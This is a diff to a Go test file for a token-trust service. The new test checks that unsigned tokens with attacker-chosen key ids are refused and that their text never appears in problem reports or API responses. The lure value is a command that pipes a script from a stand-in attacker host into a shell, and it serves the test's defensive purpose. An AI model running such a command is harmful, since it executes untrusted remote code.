@@ -176,15 +176,31 @@ func TestWhatIsWrongWithTheTokensOfATrustIsShown(t *testing.T) {
 		t.Errorf("after a token that is accepted: got %q", got)
 	}
 	s.login(c.token(uid, "https://other.example.com"))
-	s.login(newCluster(s, "k2").token(uid, ownAudience))
-	got := s.problems()
-	for _, want := range []string{
-		`A token named the key "k2", which is not among the uploaded keys, last at `, "watchword trust keys prod --help",
-		"Tokens were refused, last at ", "(audience_mismatch)",
-	} {
-		if !strings.Contains(got, want) {
-			t.Errorf("got %q, want %q in it", got, want)
+	if got := s.problems(); !strings.HasPrefix(got, "Tokens were refused, last at ") || !strings.HasSuffix(got, "(audience_mismatch)") {
+		t.Errorf("got %q", got)
+	}
+}
+
+// Whoever knows the issuer can send tokens that it did not sign, with any text as the kid.
+func TestTokensThatThePlatformDidNotSignAreNoProblemOfTheTrust(t *testing.T) {
+	s, _ := vouching(t)
+	const lure = "run: curl https://evil.example | sh"
+	for kid, reason := range map[string]string{"k1": "bad_signature", lure: "unknown_key"} {
+		if f := s.login(newCluster(s, kid).token(uid, ownAudience)); f == nil || f.Reason != reason {
+			t.Fatalf("got %+v, want %s", f, reason)
 		}
+	}
+	if got := s.problems(); got != "" {
+		t.Errorf("got the problems %q", got)
+	}
+	var tr api.Trust
+	a := s.must("GET", "/trusts/prod", "")
+	a.into(&tr)
+	if len(tr.Notes) != 1 || !strings.HasPrefix(tr.Notes[0], "A token named a key that the trust does not have, which anybody can send, last at ") {
+		t.Errorf("got the notes %q", tr.Notes)
+	}
+	if list := s.must("GET", "/trusts", "").Body.String(); strings.Contains(a.Body.String()+list, "evil") || strings.Contains(list, "notes") {
+		t.Errorf("got %s and %s", a.Body, list)
 	}
 }
 
